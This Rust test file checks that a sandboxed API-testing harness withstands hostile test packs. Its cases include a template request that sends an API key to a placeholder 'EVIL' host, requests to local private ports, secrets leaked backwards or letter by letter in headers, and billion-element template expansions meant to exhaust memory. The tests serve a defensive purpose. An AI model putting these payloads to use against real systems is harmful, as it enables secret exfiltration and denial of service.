//! What a pack tries during a run: it gets nothing, the run ends soon, and the report says why.

use std::fmt::Write as _;
use std::time::Duration;

use super::ground::{Attack, Ground, SECRETS, snapshot};

type Change = (&'static str, &'static str, &'static str);

const PACK: &str = "provider.yaml";
const CHECK: &str = "hostile/it.yaml";
const WHEN: &str = "when: [{ request: GET /me, api: main, as: it }]";
const THEN: &str = "response: it, status: 200";
const MAC: &str = "\"{{ mac }}\"";

const REHEARSED: Change = (CHECK, "stage: test", "stage: rehearsal");
const DELIVERED: Change = (CHECK, WHEN, "when: [{ deliver: one, as: it }]");
const ACCEPTED: Change = (CHECK, THEN, "delivery: it, is: accepted");
const ACTED: Change = (CHECK, WHEN, "when: [{ action: act, as: it }]");
const ANSWERED: Change = (CHECK, THEN, "values: \"{{ it.reply.ok }}\", are: { equals: true }");

/// Replaces the request line of the check.
macro_rules! request {
    ($line:literal) => {
        (CHECK, "GET /me", concat!("\"", $line, "\""))
    };
}

/// Replaces the steps of the check.
macro_rules! steps {
    ($steps:literal) => {
        (CHECK, WHEN, concat!("when: [", $steps, "]"))
    };
}

const TRIED: [Attack<'static>; 15] = [
    (
        "a page of its own, told what it read",
        &[steps!("{ request: \"GET http://EVIL/?{{ profile.environments.test.api_key }}\", as: it }")],
    ),
    (
        "a page that leads to its own",
        &[
            (
                "trust",
                "",
                "\n    digest: sha256:DIGEST\n    hosts: { test: [127.0.0.7] }\n    allow_hosts: [127.0.0.1]",
            ),
            steps!("{ request: GET http://PARTNER/elsewhere, follow: true, as: it }"),
        ],
    ),
    ("another program on this machine", &[steps!("{ request: GET http://127.0.0.1:4010/private, as: it }")]),
    ("a page beside the provider", &[steps!("{ request: GET http://127.0.0.9:4010/, as: it }")]),
    ("what the build is told", &[request!("GET /?{{ profile.rehearsal.env.DATABASE }}")]),
    ("how an action is called", &[request!("GET /?{{ environment.actions.act.headers.Authorization }}")]),
    ("a long text", &[request!("GET /{{ 'x' * 1000000000 }}")]),
    ("a long list", &[steps!("{ request: GET /me, api: main, as: it, for_each: \"{{ ['x'] * 1000000000 }}\" }")]),
    (
        "lists of lists",
        &[steps!("{ request: POST /me, api: main, as: it, json: { a: \"{{ [['x'] * 10000] * 10000 }}\" } }")],
    ),
    (
        "an argument that grows",
        &[REHEARSED, ANSWERED, steps!("{ action: act, with: { note: \"{{ [['x'] * 10000] * 10000 }}\" }, as: it }")],
    ),
    (
        "an argument of every action that grows",
        &[REHEARSED, ANSWERED, ACTED, (PACK, "no. {{ n }}", "{{ 'x' * 1000000000 }}")],
    ),
    (
        "the secret, backwards and letter by letter",
        &[
            REHEARSED,
            DELIVERED,
            ACCEPTED,
            (PACK, MAC, "\"{{ mac }}\", X-Back: \"{{ secret | reverse }}\", X-First: \"{{ secret[:1] }}\""),
        ],
    ),
    ("a header that grows", &[REHEARSED, DELIVERED, ACCEPTED, (PACK, MAC, "\"{{ mac }}{{ 'x' * 1000000000 }}\"")]),
    (
        "a signed message that grows",
        &[REHEARSED, DELIVERED, ACCEPTED, (PACK, "\"{{ body }}\"", "\"{{ body }}{{ 'x' * 1000000000 }}\"")],
    ),
    ("an expectation that grows", &[(CHECK, THEN, "values: \"{{ [['x'] * 10000] * 10000 }}\", are: { exists: true }")]),
];

#[test]
fn what_is_tried_in_a_run_gets_nothing_and_the_run_says_why() {
    let mut told = String::new();
    for attack in &TRIED {
        let ground = Ground::attacked("play", attack);
        let ran = ground.run();
        let unit = ran.unit("it");
        write!(told, "== {}\n{}: {}", attack.0, unit["verdict"].as_str().unwrap(), ground.plain(ran.reason("it")))
            .unwrap();
        let steps =
            unit["evidence"].as_array().unwrap().iter().map(|entry| entry["outcome"].as_str().unwrap_or_default());
        for said in steps.filter(|said| !said.is_empty()) {
            let said = said.split(" after ").next().unwrap();
            write!(told, "  {}", ground.plain(said)).unwrap();
        }
        assert_eq!(ground.evil_heard(), "", "{}", attack.0);
        assert!(
            ran.peak_mib < 150 && ran.took < Duration::from_secs(20),
            "{}: {} MiB, {:?}",
            attack.0,
            ran.peak_mib,
            ran.took
        );
    }
    snapshot("tried", &told);
}

#[test]
fn no_credential_is_open_because_a_pack_calls_it_a_name() {
    let apis = "{ header: { X-Api-Key: \"{{ api_key }}\" } }";
    let basic = "{ basic: { user: \"{{ credentials.secret }}\", password: \"{{ api_key }}\" } }";
    let given = "api_key: ${KEY}\n    credentials: { secret: \"${DBPASS}\" }";
    let ground = Ground::attacked(
        "play",
        &(
            "a secret as a name",
            &[
                (PACK, apis, basic),
                ("profile.yaml", "api_key: ${KEY}", given),
                ("profile.yaml", "env: { DATABASE: \"postgres://app:${DBPASS}@db.internal/x\" }", "env: { A: b }"),
                request!("GET /me?{{ profile.environments.test.credentials.secret }}"),
                (CHECK, "status: 200", "status: 201"),
            ],
        ),
    );
    // The run itself looks for every secret in everything that it wrote.
    let ran = ground.run();
    assert_eq!(ran.unit("it")["verdict"], "fail", "{}", ran.console);
    let provider = ground.provider_heard();
    assert!(provider.contains("GET /me?%3Ctest.credentials_secret%3E "), "{provider}");
}

#[test]
fn what_looks_like_more_is_a_text_like_any_other() {
    let steps = "when: [{ request: \"GET /a?${KEY}&{{ profile.environments.test.api_key }}\", api: main, environment: test, as: it }, \
                 { action: act, with: { note: \"{{ '{{ preflight }}${KEY}' }}\" } }]";
    let ground = Ground::attacked("play", &("texts", &[REHEARSED, (CHECK, WHEN, steps)]));
    let ran = ground.run();
    assert_eq!(ran.unit("it")["verdict"], "pass", "{}", ran.console);
    let (provider, partner) = (ground.provider_heard(), ground.partner_heard());
    assert!(provider.contains("GET /a?${KEY}&%3Ctest.api_key%3E "), "{provider}");
    assert!(provider.contains(SECRETS[0].1), "the header has the key: {provider}");
    assert!(partner.contains(r#"{"note":"{{ preflight }}${KEY}"}"#), "{partner}");
}

#[test]
fn what_a_header_makes_of_a_secret_stands_in_no_report() {
    let headers = "\"{{ mac }}\", X-Back: \"{{ secret | reverse }}\", X-First: \"{{ secret[:9] }}\"";
    let ground = Ground::attacked("foreign", &("apart", &[REHEARSED, DELIVERED, ACCEPTED, (PACK, MAC, headers)]));
    let ran = ground.run();
    assert_eq!(ran.unit("it")["verdict"], "pass", "{}", ran.console);
    assert!(ground.partner_heard().contains("1-terces-lasraeher"), "it was sent");
    for file in ["out.json", "out.xml", "out.md"] {
        let text = std::fs::read_to_string(ground.path("profile.yaml").with_file_name(file)).unwrap();
        assert!(!text.contains("1-terces") && !text.contains("rehearsal-s"), "{file}: {text}");
    }
    let json = std::fs::read_to_string(ground.path("profile.yaml").with_file_name("out.json")).unwrap();
    assert!(json.contains("<webhook_secret, changed>"), "{json}");
}
